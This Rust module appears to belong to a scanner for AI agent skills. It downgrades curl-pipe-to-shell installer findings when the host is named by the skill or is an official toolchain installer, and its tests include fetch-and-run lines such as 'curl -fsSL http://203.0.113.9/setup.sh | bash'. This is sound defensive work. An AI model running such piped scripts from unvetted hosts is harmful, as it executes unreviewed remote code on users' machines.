//! The vendor's own installer is an installer, not a dropper.
//!
//! `curl -fsSL https://astral.sh/uv/install.sh | sh` in a Python-tooling skill, or a platform
//! CLI's install script from the domain the skill is about, runs code nobody reviewed, which is
//! why it is held at T1. It is not the fake prerequisite of a stealer campaign: that comes from
//! a raw IP, a paste site, a password-protected archive, or a host the skill never names. When
//! every source of a piped, substituted or downloaded-and-run script (SK201, SK202, SK452,
//! SK457, SK460) is a party the skill's stated purpose or metadata names (homepage, repository,
//! author) or a widely used toolchain's official installer (`toolchain_installers` in
//! `rules/data/intent-lexicon.yaml`), the finding stays high but is no kill-chain stage: alone
//! or beside another stage it does not reject.

use regex::Regex;
use skillgate_model::purposes::Lexicon;
use skillgate_model::remote_source::RemoteSource;
use skillgate_model::{Finding, KillChainStage, Severity};
use std::sync::LazyLock;

/// G1's installer rules, and G3's SK905 (a script fetched and piped into a shell, seen run).
const INSTALLER_CODES: &[&str] = &["SK201", "SK202", "SK452", "SK457", "SK460", "SK905"];

/// What the skill says it is, for naming its sources: the stated purpose and the frontmatter
/// fields that name where it comes from (homepage, repository, author).
pub fn vouching_text(doc: &skillgate_model::SkillDocument) -> String {
    let purpose = skillgate_model::skill_md::stated_purpose(
        doc.name().unwrap_or(""),
        doc.description().unwrap_or(""),
        &doc.body,
    );
    ["homepage", "repository", "repo", "author", "source", "url"]
        .iter()
        .filter_map(|k| doc.str_field(k))
        .fold(purpose, |acc, v| format!("{acc}\n{v}"))
}

static URL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"https?://[^\s'\x22`|)<>,]+").expect("valid regex"));

/// Whether `url` is a source the skill vouches for: named by `purpose`, or a toolchain's
/// official installer. A bare IP names nobody.
fn vouched_for(url: &str, purpose: &str) -> Option<String> {
    let source = RemoteSource::parse(url.trim_end_matches(['.', ';', ':']))?;
    let named = !source.names.is_empty() && source.named_in(purpose).is_some();
    let toolchain = Lexicon::shared().is_toolchain_installer(&source);
    (named || toolchain).then_some(source.host)
}

/// Holds installers from vouched-for sources at high, without a kill-chain stage.
pub fn check(purpose: &str, out: &mut [Finding]) {
    for f in out.iter_mut().filter(|f| {
        INSTALLER_CODES.contains(&f.code.as_str()) && f.kill_chain != KillChainStage::None
    }) {
        let text = [
            f.evidence.as_deref(),
            f.snippet.as_deref(),
            Some(f.message.as_str()),
        ]
        .into_iter()
        .flatten()
        .collect::<Vec<_>>()
        .join("\n");
        let urls: Vec<&str> = URL.find_iter(&text).map(|m| m.as_str()).collect();
        if urls.is_empty() {
            continue;
        }
        let hosts: Option<Vec<String>> = urls.iter().map(|u| vouched_for(u, purpose)).collect();
        let Some(mut hosts) = hosts else {
            continue;
        };
        hosts.sort();
        hosts.dedup();
        f.severity = f.severity.min(Severity::High);
        f.kill_chain = KillChainStage::None;
        f.message.push_str(&format!(
            " (held at high, no kill-chain stage: the vendor's own installer, from {}, which the \
             skill names or which is a toolchain's official installer)",
            hosts.join(", ")
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use skillgate_model::{Confidence, Gate};

    fn piped(url: &str) -> Finding {
        Finding::new(
            "SK201",
            Gate::G1,
            Severity::High,
            Confidence::High,
            "x",
            "m",
        )
        .with_stage(KillChainStage::Execution)
        .with_evidence(&format!("curl -fsSL {url} | bash"))
    }

    #[test]
    fn a_named_vendor_or_toolchain_installer_is_held_and_a_stranger_is_not() {
        let mut out = vec![
            piped("https://quillmark.dev/install.sh"),
            piped("https://astral.sh/uv/install.sh"),
            piped("https://cdn.toolz.example.net/x.sh"),
            piped("http://203.0.113.9/setup.sh"),
        ];
        check("quillmark cli\nInstall and use the Quillmark CLI", &mut out);
        let staged: Vec<bool> = out
            .iter()
            .map(|f| f.kill_chain != KillChainStage::None)
            .collect();
        assert_eq!(staged, [false, false, true, true]);
        assert!(out[0].message.contains("quillmark.dev"));
    }
}
